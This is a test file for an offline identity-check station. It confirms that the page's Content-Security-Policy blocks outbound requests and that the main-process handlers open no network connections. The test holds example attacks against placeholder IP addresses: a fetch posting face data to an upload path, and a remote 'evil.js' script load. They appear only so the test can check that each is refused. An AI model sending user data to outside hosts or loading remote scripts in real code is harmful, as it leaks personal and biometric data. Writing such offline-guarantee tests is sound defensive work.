/**
 * The offline guarantee, where it can be shown without Electron:
 * - the built page, under its real Content-Security-Policy in Chromium, cannot reach any
 *   other origin: fetch, XHR, WebSocket, images and scripts to a remote address fail, and each
 *   refusal is reported (securitypolicyviolation) and logged (console);
 * - main's handlers, run through ID analysis, MRZ reading and a face check with the real
 *   models, open no socket and resolve no host name.
 * In Electron the session's offline guard (session-policy.ts, tested in
 * test/main/electron/session-policy.test.ts) cancels and logs the same requests again.
 *
 * The spies below see only Node's own network functions, never native code (onnxruntime's
 * telemetry client resolved its host from C++). test/offline/ watches the CLI and a whole
 * station session from outside the process with strace: sockets, resolver access and every
 * file written.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { MrzReader } from '../../src/main/document/mrz-reader';
import { registerHandlers, type CheckedHandler } from '../../src/main/ipc/register-handlers';
import { createStationHandlers } from '../../src/main/ipc/station-handlers';
import { FaceAnalyzer } from '../../src/main/vision/face-analyzer';
import type { IpcChannel } from '../../src/shared/ipc-contract';
import { announceSkip, faceApiDemo, repoRoot } from '../helpers/paths';
import { syntheticDocumentPng } from '../main/document/synthetic-document';
import { CHROMIUM, launchWithCamera, openStation, serveFolder } from './station-harness';

const requireHere = createRequire(__filename);
const hasChromium = existsSync(CHROMIUM);
const describeWithChromium: jest.Describe = hasChromium
  ? describe
  : (((name: string, fn: () => void) => {
      announceSkip(`"${name}"`, `${CHROMIUM} is not installed`);
      return describe.skip(name, fn);
    }) as unknown as jest.Describe);

describeWithChromium('the page, under its own CSP in Chromium', () => {
  let work: string;
  let browser: Browser;
  let server: { url: string; close: () => Promise<void> };
  let page: Page;
  const consoleLines: string[] = [];

  beforeAll(async () => {
    const rendererDir = join(repoRoot, 'dist', 'renderer');
    if (!existsSync(join(rendererDir, 'index.html'))) execFileSync(process.execPath, [join(repoRoot, 'scripts', 'build.mjs')], { cwd: repoRoot, stdio: 'inherit' });
    work = mkdtempSync(join(tmpdir(), 'ekyc-offline-'));
    const y4m = join(work, 'grey.y4m');
    execFileSync('ffmpeg', ['-v', 'error', '-y', '-f', 'lavfi', '-i', 'color=c=gray:s=320x240:d=1:r=10', '-pix_fmt', 'yuv420p', y4m]);
    server = await serveFolder(rendererDir);
    browser = await launchWithCamera(y4m);
    const handlers = createStationHandlers({ faceEngine: async () => { throw new Error('no face engine in this test'); }, chooseIdFile: async () => null, saveRecord: async () => null });
    page = await openStation(browser, server.url, handlers);
    page.on('console', (m) => consoleLines.push(m.text()));
    await page.waitForSelector('ekyc-station-app');
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('refuses fetch, XHR, WebSocket, image and script requests to a remote address, reporting and logging each', async () => {
    const outcome = await page.evaluate(async () => {
      const violations: { blockedURI: string; directive: string }[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push({ blockedURI: e.blockedURI, directive: e.effectiveDirective }));
      const attempt = async (what: () => Promise<unknown>): Promise<string> => {
        try {
          await what();
          return 'reached';
        } catch (err) {
          return `failed: ${(err as Error).name}`;
        }
      };
      const fetchResult = await attempt(() => fetch('https://203.0.113.7/upload', { method: 'POST', body: 'face' }));
      const xhrResult = await attempt(() => new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest();
        xhr.onload = resolve;
        xhr.onerror = () => reject(new Error('xhr error'));
        try {
          xhr.open('GET', 'http://198.51.100.9/x');
          xhr.send();
        } catch (err) {
          reject(err);
        }
      }));
      const socketResult = await attempt(() => new Promise((resolve, reject) => {
        try {
          const ws = new WebSocket('wss://203.0.113.8/ws');
          ws.onopen = resolve;
          ws.onerror = () => reject(new Error('ws error'));
        } catch (err) {
          reject(err);
        }
      }));
      const imageResult = await attempt(() => new Promise((resolve, reject) => {
        const img = new Image();
        img.onload = resolve;
        img.onerror = () => reject(new Error('img error'));
        img.src = 'https://203.0.113.9/pixel.png';
      }));
      const scriptResult = await attempt(() => new Promise((resolve, reject) => {
        const s = document.createElement('script');
        s.onload = resolve;
        s.onerror = () => reject(new Error('script error'));
        s.src = 'https://203.0.113.10/evil.js';
        document.head.append(s);
      }));
      const evalResult = await attempt(async () => (0, eval)('1 + 1'));
      await new Promise((r) => setTimeout(r, 300));
      return { fetchResult, xhrResult, socketResult, imageResult, scriptResult, evalResult, violations };
    });

    expect(outcome.fetchResult).toBe('failed: TypeError');
    expect(outcome.xhrResult).toMatch(/^failed/);
    expect(outcome.socketResult).toMatch(/^failed/);
    expect(outcome.imageResult).toMatch(/^failed/);
    expect(outcome.scriptResult).toMatch(/^failed/);
    expect(outcome.evalResult).toBe('failed: EvalError');
    const blocked = outcome.violations.map((v) => `${v.directive} ${v.blockedURI}`);
    expect(blocked).toEqual(expect.arrayContaining([
      'connect-src https://203.0.113.7/upload',
      'connect-src http://198.51.100.9/x',
      'connect-src wss://203.0.113.8/ws',
      'img-src https://203.0.113.9/pixel.png',
      'script-src-elem https://203.0.113.10/evil.js',
    ]));
    // Chromium logs each refusal on the page's console (Electron writes it to the app's log).
    const logged = (url: string, directive: string) => consoleLines.some((l) => l.includes(`'${url}' violates`) && l.includes(directive) && l.includes('has been blocked'));
    expect(logged('https://203.0.113.7/upload', "connect-src 'self'")).toBe(true);
    expect(logged('http://198.51.100.9/x', "connect-src 'self'")).toBe(true);
    expect(logged('wss://203.0.113.8/ws', "connect-src 'self'")).toBe(true);
    expect(logged('https://203.0.113.9/pixel.png', 'img-src')).toBe(true);
    expect(logged('https://203.0.113.10/evil.js', 'script-src')).toBe(true);
  });
});

describe("main's handlers", () => {
  it('open no socket and resolve no host while analysing an ID, reading its MRZ and checking a face', async () => {
    const net = requireHere('node:net') as typeof import('node:net');
    const dns = requireHere('node:dns') as typeof import('node:dns');
    const http = requireHere('node:http') as typeof import('node:http');
    const https = requireHere('node:https') as typeof import('node:https');
    const attempts: string[] = [];
    const spies = [
      jest.spyOn(net.Socket.prototype, 'connect').mockImplementation(function (this: import('node:net').Socket) { attempts.push('net.Socket.connect'); return this; }),
      jest.spyOn(dns, 'lookup').mockImplementation((() => { attempts.push('dns.lookup'); }) as unknown as typeof dns.lookup),
      jest.spyOn(http, 'request').mockImplementation((() => { attempts.push('http.request'); throw new Error('offline'); }) as unknown as typeof http.request),
      jest.spyOn(https, 'request').mockImplementation((() => { attempts.push('https.request'); throw new Error('offline'); }) as unknown as typeof https.request),
      jest.spyOn(globalThis, 'fetch').mockImplementation(async () => { attempts.push('fetch'); throw new Error('offline'); }),
    ];
    const analyzer = await FaceAnalyzer.create();
    const mrz = await MrzReader.create();
    try {
      const routes = new Map<IpcChannel, CheckedHandler<IpcChannel>>();
      registerHandlers((channel, handler) => routes.set(channel, handler as CheckedHandler<IpcChannel>), createStationHandlers({
        faceEngine: async () => analyzer, mrzEngine: async () => mrz, chooseIdFile: async () => null, saveRecord: async () => null,
      }));
      const call = (channel: IpcChannel, payload: unknown) => routes.get(channel)!(payload);
      const drawn = await call('id:analyze', { fileName: 'drawn.png', bytes: new Uint8Array(await syntheticDocumentPng({ lines: ['P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<', 'L898902C36UTO7408122F1204159ZE184226B<<<<<10'] })) });
      if (!drawn.ok) throw new Error(drawn.error.message);
      const doc = await call('document:read-mrz', { documentId: (drawn.value as { documentId: string }).documentId });
      expect(doc.ok).toBe(true);
      const id = await call('id:analyze', { fileName: 'sample2.jpg', bytes: new Uint8Array(readFileSync(faceApiDemo('sample2.jpg'))) });
      expect(id.ok).toBe(true);
      const sharp = (await import('sharp')).default;
      const { data, info } = await sharp(faceApiDemo('sample2.jpg')).resize(640, 480, { fit: 'cover' }).ensureAlpha().raw().toBuffer({ resolveWithObject: true });
      const face = await call('face:verify', { width: info.width, height: info.height, rgba: new Uint8Array(data.buffer, data.byteOffset, data.length) });
      expect(face.ok || face.error.code !== 'INTERNAL').toBe(true);
    } finally {
      await analyzer.dispose();
      await (mrz as unknown as { dispose?: () => Promise<void> }).dispose?.();
      spies.forEach((s) => s.mockRestore());
    }
    expect(attempts).toEqual([]);
  });
});
